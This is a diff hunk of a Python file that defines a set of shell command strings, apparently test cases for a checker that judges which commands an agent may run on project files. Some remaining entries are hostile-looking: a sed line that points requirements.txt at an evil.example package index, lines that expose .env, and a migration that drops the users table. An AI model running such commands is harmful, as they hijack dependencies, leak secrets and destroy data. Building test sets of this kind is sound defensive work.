@@ -50,15 +50,12 @@ EIGHTH = frozenset(
         # files that a project may change: what is written decides
         "sed -i '1i --index-url https://evil.example/simple' requirements.txt",
         r"echo '\! cat .env' >> dump.sql",
-        "echo '# nothing' > .npmignore",
-        "echo '!.env' >> .dockerignore",
         "echo '!.env' >> .gitignore",
         "mkdir -p db/migration && echo 'DROP TABLE users;' > db/migration/V999__x.sql",
         # values are redacted
         "cd notes && git init -q && git add . && git diff --cached",
         "bash -x build/x.sh",
-        # a pattern that the program expands, and a build of the project
-        "prettier 'infra/*.json'",
+        # a build of the project
         "npx vite build",
     )
 )
